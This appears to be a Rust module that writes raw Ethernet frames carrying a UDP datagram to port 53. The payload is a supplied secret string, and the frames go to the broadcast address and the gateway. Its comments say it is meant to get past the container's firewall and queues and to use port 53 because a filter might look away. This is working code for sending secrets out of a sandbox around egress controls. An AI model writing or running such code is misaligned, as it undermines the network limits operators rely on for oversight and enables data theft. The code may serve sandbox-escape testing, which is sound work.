//! Datagrams in whole frames, to the gateway and to everyone, past the container's own firewall and
//! queues.

use std::net::IpAddr;

use anyhow::bail;

use crate::link::{Link, open};
use crate::packets::{UDP, frame, ip, udp};

/// To port 53, where a filter might look away.
pub(crate) fn send_all(interface: &str, target: IpAddr, secret: &str) -> anyhow::Result<()> {
    let link = Link::look(interface)?;
    let own = link.own(target)?;
    let datagram = udp((own, 49152).into(), (target, 53).into(), secret.as_bytes());
    let packet = ip(own, target, UDP, &datagram);
    let mut sent = 0;
    for (name, destination) in [("broadcast", [0xff; 6]), ("gateway", link.gateway_mac)] {
        for bypass in [false, true] {
            let outcome = open(interface, bypass).and_then(|socket| {
                Ok(nix::unistd::write(
                    &socket,
                    &frame(link.mac, destination, &packet),
                )?)
            });
            match &outcome {
                Ok(_) => println!("frame to {name}, bypass {bypass}: sent"),
                Err(error) => println!("frame to {name}, bypass {bypass}: {error}"),
            }
            sent += u32::from(outcome.is_ok());
        }
    }
    if sent == 0 {
        bail!("not one frame could be sent")
    } else {
        Ok(())
    }
}
